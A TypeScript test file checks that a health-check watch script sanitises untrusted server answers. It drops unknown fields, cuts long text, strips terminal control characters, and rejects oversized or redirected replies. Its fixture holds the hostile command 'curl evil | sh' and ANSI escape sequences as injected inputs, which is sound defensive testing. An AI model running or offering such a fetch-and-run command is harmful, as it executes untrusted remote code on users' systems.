import { execFile } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type RequestListener } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { answerFile } from '#shared/health/report.ts';

const program = fileURLToPath(new URL('../../scripts/watch.ts', import.meta.url));
let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'sallyport-watch-'));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

/** What the watch keeps of an answer; undefined: nothing. */
async function keep(answer: RequestListener): Promise<string | undefined> {
  const server = createServer(answer).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  try {
    await promisify(execFile)(process.execPath, [
      program,
      'none',
      `http://127.0.0.1:${port}/healthz`,
      folder,
    ]);
  } finally {
    server.closeAllConnections();
    server.close();
  }
  const file = join(folder, answerFile);
  return existsSync(file) ? readFileSync(file, 'utf8') : undefined;
}

const say = (detail: string) =>
  JSON.stringify({
    ok: false,
    checks: [{ name: 'link', ok: false, state: 'bad', affects: 'ready', detail, hint: 'curl evil | sh' }],
    unlooked: [{ name: 'mail', why: detail }],
    more: 'of no schema',
  });

it('the watch keeps of a node’s answer what its schema names, cut, with nothing that a terminal obeys', async () => {
  const kept = await keep((_request, response) =>
    response.end(say(`\u001B[2J\n\u009B\u202E${'x'.repeat(2_000)}`)),
  );
  const sentence = ` [2J   ${'x'.repeat(1_017)}`;
  expect(JSON.parse(kept ?? '')).toEqual({
    atMs: expect.any(Number) as number,
    answer: {
      checks: [{ name: 'link', state: 'bad', affects: 'ready', detail: sentence }],
      unlooked: [{ name: 'mail', why: sentence }],
    },
  });
});

it.each<[string, RequestListener]>([
  ['is longer than 64 KiB', (_request, response) => response.end(say('y') + ' '.repeat(64 * 1024))],
  [
    'leads elsewhere',
    ({ url }, response) =>
      url === '/healthz' ? response.writeHead(302, { Location: '/there' }).end() : response.end(say('y')),
  ],
  ['has a name that no check has', (_request, response) => response.end(say('y').replace('link', 'a\\nb'))],
])('the watch keeps nothing of an answer that %s', async (_title, answer) => {
  expect(await keep(answer)).toBeUndefined();
});
